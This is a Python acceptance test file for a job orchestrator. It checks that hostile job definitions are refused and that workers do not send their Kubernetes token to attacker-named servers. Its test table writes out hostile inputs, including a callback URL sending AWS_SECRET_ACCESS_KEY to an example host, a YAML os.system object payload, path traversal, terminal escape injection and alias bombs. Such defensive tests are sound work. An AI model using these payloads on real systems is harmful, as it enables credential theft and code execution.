"""Hostile definitions, from the command that reads them to the worker that would run them."""

import os
import ssl
from collections.abc import Mapping
from pathlib import Path

import pytest
import yaml

from tests.acceptance.support import Running, Shell, assert_no_traceback
from tests.hostile.attacks import ON_FILES, ON_PROCESSES, booty
from tests.hostile.targets import Target, contents, family, listening
from tests.hostile_server import Stranger, stranger
from tests.servers.secured import Certificates
from tests.unit.test_hostile_definitions import LAUGHS, MERGES
from tests.waiting import wait_until

TOKEN = "the-token-of-the-worker"  # noqa: S105 - made up
HOME = "https://127.0.0.1:1"
METADATA = "http://169.254.169.254/latest/meta-data"
WAIT_S = 60


def definition(**fields: object) -> str:
    return yaml.safe_dump({"name": "theirs", "python": {"text": "print(1)"}, "file": "theirs.py", **fields})


def on(master: str, **spark: object) -> str:
    return definition(spark={"master": master, **spark})


REFUSED: Mapping[str, tuple[str, tuple[str, ...]]] = {
    "sends the worker's token over http": (on("k8s://http://127.0.0.1:2"), ()),
    "takes another context of the kubeconfig": (on(f"k8s://{HOME}", kubernetes={"context": "other"}), ()),
    "names another server in conf": (
        on("local[1]", conf={"spark.kubernetes.driver.master": "https://127.0.0.1:2"}),
        (),
    ),
    "sends a variable of the worker away": (
        definition(callback={"url": "http://receiver.example.org/${env:AWS_SECRET_ACCESS_KEY}"}),
        (),
    ),
    "repeats without end by aliases": (LAUGHS, ()),
    "repeats without end by merges": (MERGES, ()),
    "makes an object of Python": ("!!python/object/apply:os.system [id]", ()),
    "reads a device as its program": (definition(python="/dev/zero", file=""), ()),
    "reads a queue of bytes as its program": (definition(python="waits.py", file=""), ()),
    "leaves the tree by its name": (definition(name="../../zookeeper"), ()),
    "leaves the tree by its id": (definition(), ("--id", "../../zookeeper")),
    "leaves the tree by its pool": (definition(), ("--pool", "../finish")),
    "commands the terminal by its name": (definition(name="a\x1b]0;owned\x07b"), ()),
    "commands the terminal by an unknown field": (definition(**{"a\x1b[2Jb": 1}), ()),
    "hides the end of a line": (definition(pool="a\u202eb\r"), ()),
    "waits for ever": (definition(timeout={"run": "1e400"}), ()),
}


@pytest.fixture
def home(shell: Shell, zookeeper_hosts: str, zookeeper_root: str) -> Shell:
    """A shell with stand-ins as drivers, on an open ZooKeeper: only the definition is checked."""
    shell.use_stand_ins()
    shell.environment |= {"ZOOKEEPER_HOSTS": zookeeper_hosts, "ORCHESTRATOR_ROOT": zookeeper_root}
    return shell


def test_hostile_definitions_are_refused_in_words_before_anything_is_enqueued(home: Shell) -> None:
    os.mkfifo(home.directory / "waits.py")
    for attack, (text, options) in REFUSED.items():
        ended = home.type("job", "submit", str(home.write("theirs.yaml", text)), *options)
        assert ended.code == 2, (attack, ended)
        assert ended.stderr.startswith("error: "), attack
        assert_no_traceback(ended.stderr)
        hidden = [char for char in ended.stdout + ended.stderr if char != "\n" and not char.isprintable()]
        assert not hidden, (attack, ended.stderr)
        assert len(ended.stderr) < 4_000, attack
    assert home.jobs() == []
    plain = home.type("job", "submit", str(home.write("theirs.yaml", definition())), "--delay", "1h")
    assert plain.code == 0, plain.stderr


@pytest.fixture
def certificates(tmp_path: Path) -> Certificates:
    return Certificates(tmp_path)


def kubeconfig(shell: Shell, server: str, ca: str) -> str:
    document = {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "one",
        "clusters": [{"name": "one", "cluster": {"server": server, "certificate-authority": ca}}],
        "users": [{"name": "one", "user": {"token": TOKEN}}],
        "contexts": [{"name": "one", "context": {"cluster": "one", "user": "one"}}],
    }
    file = shell.write(f"kubeconfig-{len(server)}", yaml.safe_dump(document))
    file.chmod(0o600)
    return str(file)


def of_worker(shell: Shell, worker: Running) -> Target:
    """The targets on a worker with credentials for Kubernetes."""
    pids = family(worker.pid)
    assert listening(pids) == (), "a worker does not listen"
    files = (*contents((shell.state_dir,)), *shell.directory.glob("kubeconfig-*"))
    return Target(pids=pids, folders=(shell.state_dir,), files=files, secrets=(TOKEN,))


def has_token(evil: Stranger) -> bool:
    return any(f"Bearer {TOKEN}" in request for request in evil.seen)


def test_a_worker_sends_no_credentials_to_the_server_of_a_definition(
    home: Shell, certificates: Certificates
) -> None:
    """Control: the same job reaches that server if the operator's own file names it."""
    pytest.importorskip("kubernetes")
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(certificates.server)
    with stranger(tls) as evil:
        spark = {"kubernetes": {"image": "spark"}, "deploy_mode": "cluster"}
        job = str(home.write("theirs.yaml", on(f"k8s://{evil.url}", **spark)))
        worker = home.start("worker", KUBECONFIG=kubeconfig(home, HOME, certificates.ca))
        assert home.type("job", "submit", job, "--id", "first").code == 0
        home.type("job", "wait", "first", "--timeout", f"{WAIT_S}s")
        shown = home.job("first")
        assert shown["status"] == "ERROR_FAIL", shown
        assert f"credentials are for {HOME}" in str(shown["error"]), shown
        worker.terminate()
        worker.wait()
        assert evil.seen == []
        worker = home.start("worker", KUBECONFIG=kubeconfig(home, evil.url, certificates.ca))
        assert home.type("job", "submit", job, "--id", "second").code == 0
        wait_until(lambda: has_token(evil), WAIT_S, "the operator's server is sent the token")
        assert booty((*ON_FILES, *ON_PROCESSES), of_worker(home, worker)) == {}
        home.type("job", "kill", "second")
